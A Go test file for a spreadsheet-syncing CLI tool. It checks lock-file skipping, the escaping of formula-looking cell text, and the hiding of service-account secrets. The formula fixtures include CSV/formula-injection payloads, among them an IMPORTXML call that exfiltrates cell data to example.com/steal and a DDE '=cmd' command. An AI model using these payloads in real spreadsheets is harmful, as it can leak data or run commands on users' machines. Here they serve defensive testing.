package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/partnermap/partnermap/config"
	"github.com/partnermap/partnermap/demo"
	"github.com/partnermap/partnermap/scoring"
	"github.com/partnermap/partnermap/sheets"
	"github.com/partnermap/partnermap/sheets/google/fake"
	"github.com/partnermap/partnermap/sheets/xlsx"
)

// logLines parses the JSON log lines of stderr.
func logLines(t *testing.T, stderr string) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, line := range strings.Split(stderr, "\n") {
		if !strings.HasPrefix(line, "{") {
			continue
		}
		var m map[string]any
		if err := json.Unmarshal([]byte(line), &m); err != nil {
			t.Fatalf("log line is not JSON: %q", line)
		}
		out = append(out, m)
	}
	return out
}

func TestAnOpenWorkbookIsSkippedWithALogLineSayingItWillBeTriedAgain(t *testing.T) {
	for _, lock := range []string{"~$messy.xlsx", ".~lock.messy.xlsx#"} {
		t.Run(lock, func(t *testing.T) {
			path := copyFixture(t, "messy.xlsx")
			if err := os.WriteFile(filepath.Join(filepath.Dir(path), lock), []byte("Ana,ana-laptop"), 0o644); err != nil {
				t.Fatal(err)
			}
			before, _ := os.ReadFile(path)
			code, stdout, stderr := partnermap(t, "sync", "--now", "--as-of", "2026-11-23", "--xlsx", path)
			if code != exitFailed {
				t.Fatalf("exit %d, want %d (not done)\nstdout: %s\nstderr: %s", code, exitFailed, stdout, stderr)
			}
			var skip map[string]any
			for _, l := range logLines(t, stderr) {
				if msg, _ := l["message"].(string); strings.HasPrefix(msg, "sync skipped") {
					skip = l
				}
			}
			if skip == nil {
				t.Fatalf("no \"sync skipped\" log line:\n%s", stderr)
			}
			msg, _ := skip["message"].(string)
			reason, _ := skip["error"].(string)
			if skip["level"] != "warn" || !strings.Contains(msg, "tries again") || !strings.Contains(msg, "nothing written") ||
				!strings.Contains(reason, lock) {
				t.Errorf("the log line should be a warning saying nothing was written, that it will be tried again, "+
					"and which lock file: %v", skip)
			}
			if !strings.Contains(stderr, "skipped") || strings.Contains(stderr, "sync failed") {
				t.Errorf("a skipped sync must not be reported as failed:\n%s", stderr)
			}
			if after, _ := os.ReadFile(path); !bytes.Equal(before, after) {
				t.Error("the open workbook was written")
			}
		})
	}
}

// formulaNames are partner names a spreadsheet program would run as formulas if they were
// written as typed rather than as literal text.
var formulaNames = []string{
	`=IMPORTXML("https://example.com/steal?d="&A1,"//a")`,
	`=HYPERLINK("https://example.com","click")`,
	`+1 555 0100`,
	`-Westside Renters`,
	`@SUM(1,2)`,
}

// formulaWorkbook is the demo coalition with partners named like formulas, a meeting with
// one of them, and an introduction that looks like a formula (a New lead).
func formulaWorkbook() []sheets.InputTab {
	day := demo.Day(scoring.DateOf(2026, 11, 23))
	tabs := demo.Workbook(config.Default().Tabs, day)
	for _, name := range formulaNames {
		tabs[0].Rows = append(tabs[0].Rows, []sheets.Cell{sheets.TextCell(name), sheets.TextCell("Organization"),
			sheets.TextCell("Maria Lopez"), sheets.TextCell("Supports"), sheets.IntCell(4)})
	}
	tabs[2].Rows = append(tabs[2].Rows, []sheets.Cell{sheets.DateCell(scoring.DateOf(2026, 11, 1).Time()), sheets.TextCell(formulaNames[0]),
		sheets.TextCell("Maria Lopez"), sheets.TextCell("1-1"), {}, {}, {}, sheets.TextCell("=cmd|' /C calc'!A0"), sheets.TextCell("Pending"),
		sheets.TextCell(`=WEBSERVICE("https://example.com")`), sheets.TextCell(`=1+1`)})
	return tabs
}

// checkLiteral fails unless every formula-looking name is in Priorities as text.
func checkLiteral(t *testing.T, backend string, priorities [][]sheets.Cell) {
	t.Helper()
	var names []string
	for _, row := range priorities {
		for _, c := range row {
			if c.Kind == sheets.Text {
				names = append(names, c.Text)
			}
		}
	}
	for _, want := range formulaNames {
		if !slices.Contains(names, want) {
			t.Errorf("%s: Priorities lacks %q as text", backend, want)
		}
	}
}

func TestFormulaLookingTextStaysTextInEveryOutputAndBackend(t *testing.T) {
	t.Run("xlsx", func(t *testing.T) {
		path := filepath.Join(t.TempDir(), "chapter.xlsx")
		if _, err := xlsx.New(path, xlsx.DefaultOptions()).AddInputTabs(context.Background(), formulaWorkbook()); err != nil {
			t.Fatal(err)
		}
		if code, stdout, stderr := partnermap(t, "sync", "--now", "--as-of", "2026-11-23", "--xlsx", path); code != exitOK {
			t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
		}
		f, err := excelize.OpenFile(path)
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		cells := 0
		for _, name := range outputTabs {
			rows, err := f.GetRows(name)
			if err != nil {
				t.Fatal(err)
			}
			for r, row := range rows {
				for c := range row {
					ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
					if fo, _ := f.GetCellFormula(name, ref); fo != "" {
						t.Errorf("%s!%s holds the formula %q", name, ref, fo)
					}
					cells++
				}
			}
		}
		if cells < 100 {
			t.Fatalf("only %d output cells checked", cells)
		}
		checkLiteral(t, "xlsx", readTabs(t, path, []string{"Priorities"})["Priorities"].Rows)
	})
	t.Run("Google Sheets", func(t *testing.T) {
		srv := fake.New()
		defer srv.Close()
		srv.AddSpreadsheet("chapter-1", "America/Chicago")
		srv.AddInputTabs("chapter-1", formulaWorkbook())
		code, stdout, stderr := partnermap(t, "sync", "--now", "--as-of", "2026-11-23",
			"--spreadsheet-id", "chapter-1", "--set", "source.endpoint="+srv.URL())
		if code != exitOK {
			t.Fatalf("exit %d\n%s\n%s", code, stdout, stderr)
		}
		cells := 0
		for _, name := range outputTabs {
			sh, ok := srv.Sheet("chapter-1", name)
			if !ok {
				t.Fatalf("no tab %s", name)
			}
			for _, gd := range sh.Data {
				for r, rd := range gd.RowData {
					for c, d := range rd.Values {
						if d.UserEnteredValue != nil && d.UserEnteredValue.FormulaValue != nil {
							t.Errorf("%s row %d col %d holds the formula %q", name, r+1, c+1, *d.UserEnteredValue.FormulaValue)
						}
						cells++
					}
				}
			}
		}
		if cells < 100 {
			t.Fatalf("only %d output cells checked", cells)
		}
		rows, _ := srv.Cells("chapter-1", "Priorities")
		checkLiteral(t, "Google Sheets", rows)
	})
}

// serviceAccountKey is a service-account key whose token endpoint is tokenURL, and a piece
// of its private key to look for in output.
func serviceAccountKey(t *testing.T, tokenURL string) (key, secret string) {
	t.Helper()
	k, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.MarshalPKCS8PrivateKey(k)
	if err != nil {
		t.Fatal(err)
	}
	pemKey := string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
	b, _ := json.Marshal(map[string]string{"type": "service_account", "project_id": "chapter-123",
		"private_key_id": "0123456789abcdef", "private_key": pemKey, "client_email": serviceAccount,
		"client_id": "1", "token_uri": tokenURL})
	return string(b), strings.Split(pemKey, "\n")[1]
}

const (
	serviceAccount = "partnermap@chapter-123.iam.gserviceaccount.com"
	accessToken    = "ya29.c.partnermap-cmd-test-token-77e1"
)

// TestKeyFromTheEnvironmentIsUsedAndNeverShown passes a service-account key as
// PARTNERMAP_SOURCE_CREDENTIALS_JSON to check and sync on the fake Sheets server (through a
// fake token service), then breaks it in the ways an admin might: each time the output says
// what to fix, names the variable or the account, and never shows the key or a token.
func TestKeyFromTheEnvironmentIsUsedAndNeverShown(t *testing.T) {
	var tokenStatus atomic.Int32
	var tokenCalls atomic.Int32
	tokens := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		tokenCalls.Add(1)
		w.Header().Set("Content-Type", "application/json")
		if st := int(tokenStatus.Load()); st != 0 {
			w.WriteHeader(st)
			_, _ = w.Write([]byte(`{"error":"invalid_grant","error_description":"Invalid JWT Signature."}`))
			return
		}
		_, _ = fmt.Fprintf(w, `{"access_token":%q,"token_type":"Bearer","expires_in":3600}`, accessToken)
	}))
	defer tokens.Close()
	srv := fake.New()
	defer srv.Close()
	srv.AddSpreadsheet("chapter-9", "America/Chicago")
	srv.AddInputTabs("chapter-9", demo.Workbook(config.Default().Tabs, demo.Day(scoring.DateOf(2026, 11, 23))))
	key, secret := serviceAccountKey(t, tokens.URL+"/token")
	base := []string{"--spreadsheet-id", "chapter-9", "--set", "source.endpoint=" + srv.URL(), "--log-level", "debug"}

	noSecrets := func(t *testing.T, outs ...string) {
		t.Helper()
		for _, out := range outs {
			for _, s := range []string{secret, accessToken, "PRIVATE KEY", "0123456789abcdef"} {
				if strings.Contains(out, s) {
					t.Errorf("output shows a secret (%.20q...):\n%s", s, out)
				}
			}
		}
	}

	t.Run("a good key is used", func(t *testing.T) {
		t.Setenv("PARTNERMAP_SOURCE_CREDENTIALS_JSON", key)
		code, stdout, stderr := partnermap(t, append([]string{"check"}, base...)...)
		if code != exitOK || !strings.Contains(stdout, "credentials: "+serviceAccount) || !strings.Contains(stdout, "access: ok") {
			t.Fatalf("check: exit %d\n%s\n%s", code, stdout, stderr)
		}
		noSecrets(t, stdout, stderr)
		code, stdout, stderr = partnermap(t, append([]string{"sync", "--now", "--as-of", "2026-11-23"}, base...)...)
		if code != exitOK {
			t.Fatalf("sync: exit %d\n%s\n%s", code, stdout, stderr)
		}
		noSecrets(t, stdout, stderr)
		if tokenCalls.Load() == 0 {
			t.Error("no access token was asked for: the key was not used")
		}
	})

	t.Run("a key cut short is refused naming the variable", func(t *testing.T) {
		t.Setenv("PARTNERMAP_SOURCE_CREDENTIALS_JSON", key[:len(key)/2])
		code, stdout, stderr := partnermap(t, append([]string{"check"}, base...)...)
		if code != exitConfig || !strings.Contains(stderr, "PARTNERMAP_SOURCE_CREDENTIALS_JSON") {
			t.Fatalf("exit %d, want %d and a message naming the variable\n%s\n%s", code, exitConfig, stdout, stderr)
		}
		noSecrets(t, stdout, stderr)
	})

	t.Run("a key whose private key is not one is refused naming the variable", func(t *testing.T) {
		broken := strings.Replace(key, secret, "bm90IGEga2V5", 1)
		t.Setenv("PARTNERMAP_SOURCE_CREDENTIALS_JSON", broken)
		code, stdout, stderr := partnermap(t, append([]string{"sync", "--now", "--as-of", "2026-11-23"}, base...)...)
		if code == exitOK || !strings.Contains(stdout+stderr, "PARTNERMAP_SOURCE_CREDENTIALS_JSON") {
			t.Fatalf("exit %d; want a failure naming the variable\n%s\n%s", code, stdout, stderr)
		}
		noSecrets(t, stdout, stderr)
	})

	t.Run("a key the token service refuses says to make a new one", func(t *testing.T) {
		tokenStatus.Store(http.StatusBadRequest)
		defer tokenStatus.Store(0)
		t.Setenv("PARTNERMAP_SOURCE_CREDENTIALS_JSON", key)
		code, stdout, stderr := partnermap(t, append([]string{"sync", "--now", "--as-of", "2026-11-23"}, base...)...)
		out := stdout + stderr
		if code != exitFailed || !strings.Contains(out, "PARTNERMAP_SOURCE_CREDENTIALS_JSON") ||
			!strings.Contains(out, "create a new key") || !strings.Contains(out, serviceAccount) {
			t.Fatalf("exit %d; want 1 and a message naming the account, the variable and the fix\n%s\n%s", code, stdout, stderr)
		}
		noSecrets(t, stdout, stderr)
	})

	t.Run("a sheet not shared with the account says with whom to share it", func(t *testing.T) {
		srv.FailNext(1, fake.Fault{Kind: fake.KindGet, Status: http.StatusForbidden})
		t.Setenv("PARTNERMAP_SOURCE_CREDENTIALS_JSON", key)
		code, stdout, stderr := partnermap(t, append([]string{"check"}, base...)...)
		if code != exitFailed || !strings.Contains(stdout+stderr, "share the spreadsheet with "+serviceAccount) {
			t.Fatalf("exit %d; want 1 and the account to share with\n%s\n%s", code, stdout, stderr)
		}
		noSecrets(t, stdout, stderr)
	})
}
